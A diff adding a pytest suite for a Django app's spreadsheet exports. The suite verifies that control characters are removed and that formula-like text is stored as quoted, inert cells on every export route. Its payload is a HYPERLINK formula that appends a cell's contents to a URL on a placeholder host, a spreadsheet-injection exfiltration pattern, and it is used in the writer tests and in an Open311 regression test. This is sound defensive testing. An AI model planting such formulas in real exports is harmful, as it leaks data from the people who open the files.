@@ -1,0 +1,324 @@
+"""The one export writer: control characters never break a file, formulas never run.
+
+Every export in the product is found from the code (any view calling the writer) and reached
+through the URL conf and the API; each has a case below that stores a record carrying a control
+character and a formula, downloads the export and reads the cell back.
+"""
+
+from __future__ import annotations
+
+import ast
+import inspect
+import io
+import zipfile
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from shegong.core.exports import safe_cell, unquote_text, workbook_bytes
+
+SRC = Path(__file__).resolve().parents[2] / "src" / "shegong"
+WRITERS = {"excel_response", "workbook_bytes"}
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&B2,"点")'
+PAYLOAD = FORMULA + "\x07"  # a bell: IllegalCharacterError before
+INERT = "'" + FORMULA
+
+
+def _book(content: bytes):
+    return load_workbook(io.BytesIO(content))
+
+
+def _cells(content: bytes):
+    return [cell for row in _book(content).active.iter_rows() for cell in row]
+
+
+# ---- the writer --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_text_starting_like_a_formula_is_stored_as_quoted_text(prefix):
+    content, _n = workbook_bytes(title="t", headers=["h"], rows=[[prefix + "SUM(1,2)"]])
+    cell = _book(content).active["A2"]
+    assert cell.data_type == "s"
+    # (XML reads a stored CR back as LF)
+    assert cell.value == "'" + prefix.replace("\r", "\n") + "SUM(1,2)"
+    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+
+
+def test_control_characters_are_removed_and_the_file_opens():
+    content, _n = workbook_bytes(
+        title="名单\x00", headers=["姓名\x01"], rows=[["张\x00三\x1f", "a\tb\nc", "\ufffe李四"]]
+    )
+    sheet = _book(content).active
+    assert sheet.title == "名单"
+    assert [c.value for c in sheet[1]] == ["姓名", None, None]
+    assert [c.value for c in sheet[2]] == ["张三", "a\tb\nc", "李四"]
+
+
+def test_numbers_dates_and_booleans_stay_typed():
+    aware = datetime(2026, 3, 1, 1, 30, tzinfo=UTC)  # 09:30 in 北京时间
+    row = [3, 2.5, Decimal("7.25"), -4, date(2026, 3, 1), aware, True, None, timedelta(hours=2)]
+    content, _n = workbook_bytes(title="t", headers=["h"] * len(row), rows=[row])
+    values = [c.value for c in _book(content).active[2]]
+    assert values[:4] == [3, 2.5, 7.25, -4]
+    assert values[4] == datetime(2026, 3, 1)
+    assert values[5] == datetime(2026, 3, 1, 9, 30)
+    assert values[6] is True and values[7] is None
+    assert values[8] == timedelta(hours=2)
+
+
+def test_error_words_stay_text_and_lazy_strings_are_written():
+    from django.utils.translation import gettext_lazy
+
+    content, _n = workbook_bytes(title="t", headers=["h"], rows=[["#N/A", gettext_lazy("是")]])
+    a, b = _book(content).active[2]
+    assert (a.data_type, a.value) == ("s", "#N/A")
+    assert b.value == "是"
+
+
+def test_a_quoted_export_imports_back_to_what_was_stored():
+    assert unquote_text(safe_cell(FORMULA)) == FORMULA
+    assert unquote_text("'普通文字") == "'普通文字"
+
+
+# ---- every export of the product ---------------------------------------------------------------
+
+
+def _writer_calls() -> set[str]:
+    """`module.function` of every function in the source that calls the export writer."""
+    found = set()
+    for path in SRC.rglob("*.py"):
+        if "migrations" in path.parts or path.name == "exports.py":
+            continue
+        module = ".".join(("shegong", *path.relative_to(SRC).with_suffix("").parts))
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
+                continue
+            for call in ast.walk(node):
+                if isinstance(call, ast.Call):
+                    f = call.func
+                    name = f.id if isinstance(f, ast.Name) else getattr(f, "attr", "")
+                    if name in WRITERS:
+                        found.add(f"{module}.{node.name}")
+    return found
+
+
+def _url_views():
+    def walk(resolver, namespaces=()):
+        for p in resolver.url_patterns:
+            if isinstance(p, URLResolver):
+                ns = (*namespaces, p.namespace) if p.namespace else namespaces
+                yield from walk(p, ns)
+            elif isinstance(p, URLPattern):
+                view = inspect.unwrap(getattr(p.callback, "func", p.callback))
+                yield ":".join((*namespaces, p.name or "")), view
+
+    yield from walk(get_resolver())
+
+
+def _api_views():
+    from shegong.api import api
+
+    for _prefix, router in api._routers:
+        for path, path_view in router.path_operations.items():
+            for operation in path_view.operations:
+                yield f"api:{path}", inspect.unwrap(operation.view_func)
+
+
+def exports_in_the_product() -> dict[str, str]:
+    """{route name: view} for every route whose view writes a spreadsheet."""
+    calls = _writer_calls()
+    routes = {}
+    for name, view in [*_url_views(), *_api_views()]:
+        qualified = f"{getattr(view, '__module__', '')}.{getattr(view, '__name__', '')}"
+        if qualified in calls:
+            routes[name] = qualified
+    return routes
+
+
+def test_every_writer_call_is_an_export_route_with_a_case_below():
+    routes = exports_in_the_product()
+    assert set(routes.values()) == _writer_calls(), "a spreadsheet is written outside any route"
+    assert set(routes) == {name for name, *_ in CASES}
+
+
+def test_nothing_else_writes_spreadsheets_or_csv():
+    """Only core.exports builds workbooks or CSV; core.imports/core.xlsx only read."""
+    allowed = {"core/exports.py", "core/imports.py", "core/xlsx.py"}
+    offenders = []
+    for path in SRC.rglob("*.py"):
+        rel = path.relative_to(SRC).as_posix()
+        if rel in allowed or "migrations" in path.parts:
+            continue
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Import | ast.ImportFrom):
+                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
+                if any(n and n.split(".")[0] in ("openpyxl", "xlsxwriter") for n in names):
+                    offenders.append(f"{rel}:{node.lineno}")
+            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
+                if isinstance(node.value, ast.Name) and node.value.id == "csv":
+                    offenders.append(f"{rel}:{node.lineno}")
+    assert offenders == []
+
+
+# Each case: (route name, seed(user) -> url, needs), the record seeded through a service and the
+# payload then written straight to the row (as data imported or typed before validation was
+# tightened would be).
+
+
+def _people(user):
+    from shegong.people import services
+    from shegong.people.models import Resident
+    from shegong.people.synthetic import make_id_number
+    from shegong.regions.models import Region
+
+    r = services.resident_create(
+        created_by=user,
+        name="待改名",
+        id_number=make_id_number("440106", date(1950, 1, 2), 7, "F"),
+        region=Region.objects.get(code="440106001001"),
+        confirm_duplicates=True,
+    )
+    Resident.objects.filter(pk=r.pk).update(name=PAYLOAD, address="-1+1\x0b号")
+    return reverse("people:export")
+
+
+def _orgs(user):
+    from tests.factories import OrganisationFactory
+
+    OrganisationFactory(name=PAYLOAD, kind="sw_org", region_id="440106001000")
+    return reverse("orgs:export")
+
+
+def _users(user):
+    from tests.factories import MembershipFactory
+
+    m = MembershipFactory(organisation=user.active_membership.organisation)
+    type(m.user).objects.filter(pk=m.user.pk).update(full_name=PAYLOAD)
+    return reverse("accounts:user_export")
+
+
+def _petitions(user):
+    from shegong.petitions import services
+    from shegong.petitions.models import Category, Matter
+
+    matter = services.matter_register(
+        registered_by=user,
+        kind="complaint",
+        channel="visit",
+        region_code="440106001000",
+        category=Category.objects.get(code="labour.wages"),
+        title="待改标题",
+        request="请求督促支付拖欠工资",
+        petitioners=[{"name": "张建国", "phone": "13800138000"}],
+    )
+    Matter.objects.filter(pk=matter.pk).update(title=PAYLOAD)
+    return reverse("petitions:export")
+
+
+def _funds(user):
+    from shegong.funds import services
+    from shegong.funds.models import FundSource
+    from shegong.regions.models import Region
+
+    org = user.active_membership.organisation
+    services.appropriation_post(
+        posted_by=None, organisation=org, source=FundSource.LOCAL, amount=100_000, memo="预算"
+    )
+    account = services.account_for(organisation=org, source=FundSource.LOCAL)
+    services.spend_post(posted_by=user, account=account, amount=20_000, memo="服务")
+    Region.objects.filter(code=org.region_id).update(name=PAYLOAD)
+    return reverse("funds:report_export")
+
+
+def _hours(user, by):
+    from shegong.volunteers import services
+    from shegong.volunteers.models import Team, Volunteer
+    from tests.volunteers.helpers import make_activity, make_volunteer
+
+    volunteer = make_volunteer()
+    start = timezone.now() - timedelta(hours=2)
+    shift = make_activity(user, start=start).shifts.get()
+    signup = services.signup_create(shift=shift, volunteer=volunteer)
+    services.signup_check_in(signup=signup, by=user, at=start)
+    record = services.signup_check_out(signup=signup, by=user, at=start + timedelta(minutes=90))
+    services.record_confirm(record=record, by=user)
+    team = services.team_create(
+        created_by=user, organisation=user.active_membership.organisation, name="队", kind="party"
+    )
+    services.team_add_member(
+        team=team, volunteer=volunteer, added_by=user, joined_on=start.date() - timedelta(days=1)
+    )
+    Volunteer.objects.filter(pk=volunteer.pk).update(name=PAYLOAD)
+    Team.objects.filter(pk=team.pk).update(name=PAYLOAD)
+    today = timezone.localdate()
+    first, last = today - timedelta(days=5), today + timedelta(days=1)
+    return reverse("volunteers:export_hours", args=[by]) + f"?first={first}&last={last}"
+
+
+CASES = [
+    ("people:export", _people),
+    ("orgs:export", _orgs),
+    ("accounts:user_export", _users),
+    ("petitions:export", _petitions),
+    ("funds:report_export", _funds),
+    ("volunteers:export_hours", _hours),
+]
+
+
+def _urls_of(seed, user):
+    if seed is _hours:
+        return [_hours(user, "volunteer"), _hours(user, "team")]
+    return [seed(user)]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name,seed", CASES, ids=[c[0] for c in CASES])
+def test_each_export_writes_a_control_character_and_a_formula_as_inert_text(
+    name, seed, county_user, login
+):
+    client = login(county_user)
+    for url in _urls_of(seed, county_user):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        cells = _cells(response.content)
+        carrying = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
+        assert carrying, f"{url}: the seeded record is not in the export"
+        for cell in carrying:
+            assert (cell.data_type, cell.value) == ("s", INERT), url
+        assert not [c for c in cells if c.data_type == "f"], url
+        sheet = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet and b"\x07" not in sheet
+
+
+@pytest.mark.django_db
+def test_an_anonymous_open311_description_no_longer_breaks_the_county_export(
+    client, county_user, login
+):
+    """The finding as reported: anyone posts a description with a control character and a
+    formula; the county's export of matters was a 500 (and would have carried the formula)."""
+    from django.core.cache import cache
+
+    cache.clear()
+    posted = client.post(
+        "/open311/v2/requests.json",
+        {
+            "service_code": "labour.wages",
+            "address_id": "440106001000",
+            "description": "\x01" + FORMULA,
+            "phone": "13812345678",
+        },
+    )
+    assert posted.status_code == 200, posted.content
+    response = login(county_user).get(reverse("petitions:export"))
+    assert response.status_code == 200
+    titles = [c for c in _cells(response.content) if c.column == 6 and c.row > 1]
+    assert [(c.data_type, c.value) for c in titles] == [("s", INERT[:30])]
